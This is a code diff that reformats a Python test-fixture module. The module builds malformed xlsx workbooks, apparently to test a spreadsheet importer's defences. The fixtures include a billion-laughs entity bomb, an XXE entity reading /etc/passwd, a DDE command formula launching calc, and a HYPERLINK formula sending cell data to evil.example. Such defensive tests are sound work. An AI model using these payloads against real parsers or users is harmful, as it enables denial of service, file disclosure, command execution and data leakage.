@@ -105,12 +105,21 @@ def header_row(headers: Sequence[str]) -> str:
 def shared_strings_xml(items: Sequence[str] | bytes, *, count: int | None = None) -> bytes:
     body = items if isinstance(items, bytes) else "".join(f"<si><t>{escape(s)}</t></si>" for s in items).encode()
     n = count if count is not None else (len(items) if not isinstance(items, bytes) else 0)
-    return f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN_NS}" count="{n}" uniqueCount="{n}">'.encode() \
-        + body + b"</sst>"
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN_NS}" count="{n}" uniqueCount="{n}">'.encode()
+        + body
+        + b"</sst>"
+    )
 
 
-def workbook_bytes(sheet: bytes, *, shared_strings: bytes | None = None, styles: bytes | None = None,
-                   extra: dict[str, bytes] | None = None, level: int = 9) -> bytes:
+def workbook_bytes(
+    sheet: bytes,
+    *,
+    shared_strings: bytes | None = None,
+    styles: bytes | None = None,
+    extra: dict[str, bytes] | None = None,
+    level: int = 9,
+) -> bytes:
     """An xlsx holding these parts; the parts not given are minimal valid ones."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
@@ -119,8 +128,9 @@ def workbook_bytes(sheet: bytes, *, shared_strings: bytes | None = None, styles:
         archive.writestr("xl/workbook.xml", _WORKBOOK)
         archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
         archive.writestr("xl/styles.xml", styles if styles is not None else _STYLES.encode())
-        archive.writestr("xl/sharedStrings.xml", shared_strings if shared_strings is not None else
-                         shared_strings_xml([]))
+        archive.writestr(
+            "xl/sharedStrings.xml", shared_strings if shared_strings is not None else shared_strings_xml([])
+        )
         archive.writestr("xl/worksheets/sheet1.xml", sheet)
         for name, content in (extra or {}).items():
             archive.writestr(name, content)
@@ -168,17 +178,21 @@ def billion_laughs(headers: Sequence[str]) -> bytes:
     entities = '<!ENTITY lol "lol">' + "".join(
         f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10)
     )
-    strings = (f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst xmlns="{MAIN_NS}" count="1" uniqueCount="1">'
-               "<si><t>&lol9;</t></si></sst>").encode()
+    strings = (
+        f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst xmlns="{MAIN_NS}" count="1" uniqueCount="1">'
+        "<si><t>&lol9;</t></si></sst>"
+    ).encode()
     cells = [f'<c r="{column_letter(i)}2" t="s"><v>0</v></c>' for i in range(1, len(headers) + 1)]
     return workbook_bytes(sheet_xml([header_row(headers), row_xml(2, cells)]), shared_strings=strings)
 
 
 def external_entity(headers: Sequence[str]) -> bytes:
     """An XML external entity reading a local file into a cell (XXE), in the sheet itself."""
-    sheet = sheet_xml([header_row(headers), row_xml(2, [text_cell("A2", "&xxe;")])]).replace(
-        b"&amp;xxe;", b"&xxe;"
-    ).replace(b"<worksheet", b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet', 1)
+    sheet = (
+        sheet_xml([header_row(headers), row_xml(2, [text_cell("A2", "&xxe;")])])
+        .replace(b"&amp;xxe;", b"&xxe;")
+        .replace(b"<worksheet", b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet', 1)
+    )
     return workbook_bytes(sheet)
 
 
@@ -218,8 +232,12 @@ def iso_date_cell(headers: Sequence[str], value: str = "99999-01-01T25:61:00") -
 
 def formula_cells(headers: Sequence[str]) -> bytes:
     """Formulas: a DDE call and a link out, with cached values that are no valid entry either."""
-    return one_row_file(headers, lambda ref: raw_cell(
-        ref, "=cmd|'/c calc'!A0", kind="str", formula='HYPERLINK("http://evil.example/?"&A1,"点击")'))
+    return one_row_file(
+        headers,
+        lambda ref: raw_cell(
+            ref, "=cmd|'/c calc'!A0", kind="str", formula='HYPERLINK("http://evil.example/?"&A1,"点击")'
+        ),
+    )
 
 
 def full_width_digits(headers: Sequence[str]) -> bytes:
